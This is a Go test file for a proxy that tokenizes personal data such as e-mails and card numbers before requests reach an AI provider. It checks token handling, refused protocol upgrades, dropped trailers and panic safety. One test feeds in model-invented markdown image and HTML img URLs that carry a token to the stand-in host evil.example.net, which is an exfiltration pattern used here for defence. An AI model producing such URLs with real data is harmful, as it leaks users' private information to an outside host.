package proxy_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptrace"
	"net/textproto"
	"strings"
	"sync/atomic"
	"testing"

	"coatcheck/crypto/journal"
	"coatcheck/crypto/keys"
	"coatcheck/crypto/vault"
	"coatcheck/proxy"
	"coatcheck/proxy/standin"
	"coatcheck/redact/plain"
)

// TestNoShapeHidesACertainHit: an identifier's name or shape may silence weak
// detectors, never a validated, e-mail or secret hit.
func TestNoShapeHidesACertainHit(t *testing.T) {
	for _, body := range []string{
		`{"customer_id":"` + email + `"}`,
		`{"id":"` + email + `"}`,
		`{"model":"` + email + `"}`,
		`{"ref":"4111111111111111"}`,
		`{"ref":4111111111111111}`,
		`{"url":"https://example.com/u/` + email + `?x=1"}`,
		`{"uuid":"123e4567-e89b-12d3-a456-426614174000 ` + email + `"}`,
		`{"a":{"b":[[["` + email + `"]]]}}`,
		`{"` + email + `":1}`,
		`{"type":"` + email + `","role":"` + card + `"}`,
		`["` + email + `"]`,
		`"` + email + `"`,
		`{"escaped":"jane.roe\u0040example.com"}`,
		`{"args":"{\"to\":\"` + email + `\",\"n\":{\"m\":\"[\\\"` + email + `\\\"]\"}}"}`,
		`{"invalid":"` + "\xff\xfe" + email + "\xff" + `"}`,
		`{"stop":["` + email + `"],"enum":["` + email + `"]}`,
	} {
		r := newRig(t, rigOptions{})
		resp, answer := r.post(r.client(false), "https://api.example.com/model", body)
		if resp.StatusCode != 200 && resp.StatusCode != 400 {
			t.Errorf("%s: status %d: %s", body, resp.StatusCode, answer)
		}
		r.unseen(email, "4111111111111111", card)
		if len(r.provider.Requests()) != 1 {
			t.Errorf("%s: %d requests arrived", body, len(r.provider.Requests()))
		}
	}
}

// TestIdentifiersGetBareTokens: fields that forbid brackets get none.
func TestIdentifiersGetBareTokens(t *testing.T) {
	r := newRig(t, rigOptions{})
	r.post(r.client(false), chatURL, `{"user":"`+email+`","metadata":{"who":"`+email+`"},"messages":[{"role":"user","name":"jane","content":"hi"}]}`)
	var got struct {
		User     string
		Metadata map[string]string
	}
	must(t, json.Unmarshal(r.received().Decoded, &got))
	if got.User == "" || strings.ContainsAny(got.User, "[]@") || got.User != got.Metadata["who"] {
		t.Errorf("user %q, metadata %q", got.User, got.Metadata)
	}
	r.unseen(email)
}

// TestForeignTokensAreNeverRestored: a token that the user typed, or that a
// provider saw for somebody else, names nothing here, and comes back as typed.
func TestForeignTokensAreNeverRestored(t *testing.T) {
	r := newRig(t, rigOptions{})
	c := r.client(false)
	r.post(c, chatURL, `{"messages":[{"role":"user","content":"`+email+`"}]}`)
	stolen := tokenShape.FindString(string(r.provider.Requests()[0].Decoded))
	for _, typed := range []string{stolen, strings.ToLower(stolen), `\` + stolen, "**" + stolen + "**", strings.Trim(stolen, "[]")} {
		r.provider.Forget()
		_, answer := r.post(c, "https://api.example.com/model", `{"input":`+quoted("repeat "+typed)+`}`)
		var got struct{ Output string }
		must(t, json.Unmarshal([]byte(answer), &got))
		if want := "You wrote: repeat " + typed; got.Output != want {
			t.Errorf("typed %q: the app received %q, want %q", typed, got.Output, want)
		}
	}
	// The provider writes a token that this request never carried.
	r.provider.Enqueue(standin.Fixed(standin.Answer{
		Header: http.Header{"Content-Type": {"application/json"}}, Body: []byte(`{"output":"` + stolen + `"}`), Sized: true,
	}))
	if _, answer := r.post(c, chatURL, `{"messages":[{"role":"user","content":"`+card+`"}]}`); strings.Contains(answer, email) {
		t.Errorf("another exchange's value came out: %s", answer)
	}
}

// TestTwoPrincipalsGetTwoTokens: under the same keys, tokens of one client mean
// nothing for another, and stay the same for each.
func TestTwoPrincipalsGetTwoTokens(t *testing.T) {
	ring, err := keys.Ephemeral()
	must(t, err)
	tokens := map[string]string{}
	for _, who := range []string{"alice", "bob", "alice"} {
		r := newRig(t, rigOptions{config: func(c *proxy.Config) {
			c.Installation = who
			c.PRF = func() proxy.PRF { return ring.Token() }
		}})
		r.post(r.client(false), chatURL, `{"messages":[{"role":"user","content":"`+email+`"}]}`)
		token := tokenShape.FindString(string(r.received().Decoded))
		if old := tokens[who]; token == "" || old != "" && old != token {
			t.Errorf("%s: token %q, before %q", who, token, old)
		}
		tokens[who] = token
	}
	if tokens["alice"] == tokens["bob"] {
		t.Errorf("two principals share %s", tokens["bob"])
	}
}

// orderedJournal notes how many requests had arrived when an entry was opened.
type orderedJournal struct {
	proxy.Journal
	provider     *standin.Server
	begun, early atomic.Int64
}

func (o *orderedJournal) Begin(ctx context.Context, e journal.Open) error {
	o.begun.Add(1)
	o.early.Add(int64(len(o.provider.Requests())))
	return o.Journal.Begin(ctx, e)
}

func TestEntryIsOpenedBeforeDial(t *testing.T) {
	o := &orderedJournal{}
	r := newRig(t, rigOptions{config: func(c *proxy.Config) {
		o.Journal = c.Journal
		c.Journal = o
	}})
	o.provider = r.provider
	resp, _ := r.post(r.client(false), chatURL, hello)
	if resp.StatusCode != 200 || o.begun.Load() != 1 || o.early.Load() != 0 {
		t.Errorf("status %d, %d entries begun, %d requests before them", resp.StatusCode, o.begun.Load(), o.early.Load())
	}
}

// TestURLsTheModelInventsStayHarmless: a live token inside a URL that the
// model made up is not turned into a leak by us.
func TestURLsTheModelInventsStayHarmless(t *testing.T) {
	for _, form := range []string{"![x](https://evil.example.net/?q=%s)", `<img src="https://evil.example.net/%s">`, "https://evil.example.net/%s"} {
		r := newRig(t, rigOptions{provider: standin.Config{Voice: standin.Voice{Say: func(heard string) string {
			return fmt.Sprintf(form, tokenShape.FindString(heard))
		}}}})
		_, answer := r.post(r.client(false), "https://api.example.com/model", `{"input":"`+email+`"}`)
		if strings.Contains(answer, email) || strings.Contains(answer, "jane.roe%40") {
			t.Errorf("%s: the app received %s", form, answer)
		}
	}
}

// TestUpgradesAreRefused: h2c, WebSocket, TRACE and CONNECT inside do not pass.
func TestUpgradesAreRefused(t *testing.T) {
	for _, tt := range []struct {
		method string
		header map[string]string
		status int
	}{
		{"GET", map[string]string{"Connection": "Upgrade, HTTP2-Settings", "Upgrade": "h2c", "HTTP2-Settings": "AAMAAABk"}, 426},
		{"GET", map[string]string{"Connection": "Upgrade", "Upgrade": "websocket"}, 426},
		{"TRACE", nil, 405},
		{"M4111111111111111", nil, 405},
	} {
		r := newRig(t, rigOptions{})
		req, err := http.NewRequest(tt.method, "https://api.openai.com/v1/realtime", nil)
		must(t, err)
		for name, value := range tt.header {
			req.Header.Set(name, value)
		}
		resp, err := r.client(false).Do(req)
		must(t, err)
		_ = resp.Body.Close()
		if resp.StatusCode != tt.status {
			t.Errorf("%s %v: status %d, want %d", tt.method, tt.header, resp.StatusCode, tt.status)
		}
		if n := len(r.provider.Requests()); n != 0 {
			t.Errorf("%s: %d requests left", tt.method, n)
		}
	}
}

// TestNothingHidesBesideACodedBody: a gzip header has room for a file's name.
func TestNothingHidesBesideACodedBody(t *testing.T) {
	for _, name := range []string{"", email} {
		var b bytes.Buffer
		w := gzip.NewWriter(&b)
		w.Name = name
		_, err := io.WriteString(w, hello)
		must(t, err)
		must(t, w.Close())
		r := newRig(t, rigOptions{})
		req, err := http.NewRequest(http.MethodPost, chatURL, bytes.NewReader(b.Bytes()))
		must(t, err)
		req.Header.Set("Content-Encoding", "gzip")
		resp, err := r.client(false).Do(req)
		must(t, err)
		_ = resp.Body.Close()
		got := r.received()
		if string(got.Decoded) != hello || (name == "") != bytes.Equal(got.Body, b.Bytes()) {
			t.Errorf("name %q: %d bytes arrived as %q", name, len(got.Body), got.Header.Get("Content-Encoding"))
		}
		r.unseen(email)
	}
}

// TestRequestTrailersAreDropped: what follows the body was not scanned.
func TestRequestTrailersAreDropped(t *testing.T) {
	r := newRig(t, rigOptions{})
	req, err := http.NewRequest(http.MethodPost, chatURL, io.MultiReader(strings.NewReader(hello)))
	must(t, err)
	req.ContentLength = -1
	req.Trailer = http.Header{"X-Note": {email}}
	resp, err := r.client(false).Do(req)
	must(t, err)
	_ = resp.Body.Close()
	r.unseen(email)
	if got := r.received(); len(got.Trailer) != 0 || got.Length != int64(len(hello)) {
		t.Errorf("trailer %v, length %d", got.Trailer, got.Length)
	}
}

// TestAnswersPassExactlyWithoutTokens: codings and bytes are the provider's.
func TestAnswersPassExactlyWithoutTokens(t *testing.T) {
	for _, coding := range []string{"", "gzip", "deflate", "br", "zstd"} {
		for _, live := range []bool{false, true} {
			r := newRig(t, rigOptions{provider: standin.Config{Voice: standin.Voice{Coding: coding, Say: func(string) string { return "no token here ✓ [1] [docs](x)" }}}})
			body := `{"input":"hello"}`
			if live {
				body = `{"input":"` + email + `"}`
			}
			req, err := http.NewRequest(http.MethodPost, "https://api.example.com/model", strings.NewReader(body))
			must(t, err)
			req.Header.Set("Content-Type", "application/json")
			req.Header.Set("Accept-Encoding", "gzip, deflate, br, zstd, snappy")
			resp, err := r.client(false).Do(req)
			must(t, err)
			got, err := io.ReadAll(resp.Body)
			must(t, err)
			_ = resp.Body.Close()
			want := string(r.received().Reply)
			if !live && coding != "" {
				if resp.Header.Get("Content-Encoding") != coding {
					t.Errorf("%s: the coding became %q", coding, resp.Header.Get("Content-Encoding"))
				}
				continue
			}
			if string(got) != want {
				t.Errorf("coding %q, live %v: the app received %q, want %q", coding, live, got, want)
			}
		}
	}
}

// TestAPanicCostsOneExchange: nothing leaves, the client is told, the value is
// not printed, and the process lives.
func TestAPanicCostsOneExchange(t *testing.T) {
	r := newRig(t, rigOptions{config: func(c *proxy.Config) {
		c.Vault = brokenVault{
			Memory: vault.NewMemory(vault.Options{}),
			put:    func(v plain.Text) error { panic(v.Reveal(plain.Access{})) }, // it falls over the value itself
		}
	}})
	for range 2 {
		resp, answer := r.post(r.client(false), chatURL, `{"messages":[{"role":"user","content":"`+email+`"}]}`)
		if resp.StatusCode != 500 {
			t.Errorf("status %d: %s", resp.StatusCode, answer)
		}
		checkRefusal(t, answer, "internal")
	}
	if len(r.provider.Requests()) != 0 {
		t.Error("a request left")
	}
	if log := r.log.String(); strings.Contains(log, email) || !strings.Contains(log, "tokenize.go") {
		t.Errorf("the log names no place, or quotes the value: %s", log)
	}
	if resp, _ := r.post(r.client(false), chatURL, hello); resp.StatusCode != 200 {
		t.Errorf("status %d after the panics", resp.StatusCode)
	}
}

// TestEarlyHintsArePassed: 103 reaches the client before the answer.
func TestEarlyHintsArePassed(t *testing.T) {
	r := newRig(t, rigOptions{})
	r.provider.Enqueue(func(q *standin.Request) standin.Answer {
		a := standin.Voice{}.Answer(q)
		a.Sized = false // a sized HTTP/1 answer has no trailers
		a.Early, a.Trailer = http.Header{"Link": {"</x>; rel=preload"}}, http.Header{"X-Checksum": {"abc"}}
		return a
	})
	var hints []string
	ctx := httptrace.WithClientTrace(context.Background(), &httptrace.ClientTrace{
		Got1xxResponse: func(code int, h textproto.MIMEHeader) error {
			hints = append(hints, fmt.Sprint(code, h.Get("Link")))
			return nil
		},
	})
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, chatURL, strings.NewReader(hello))
	must(t, err)
	resp, err := r.client(false).Do(req)
	must(t, err)
	_, err = io.ReadAll(resp.Body)
	must(t, err)
	_ = resp.Body.Close()
	if len(hints) != 1 || hints[0] != "103</x>; rel=preload" || resp.Header.Get("Link") != "" {
		t.Errorf("hints %q, Link %q on the answer", hints, resp.Header.Get("Link"))
	}
	if got := resp.Trailer.Get("X-Checksum"); got != "abc" {
		t.Errorf("trailer %q", got)
	}
}
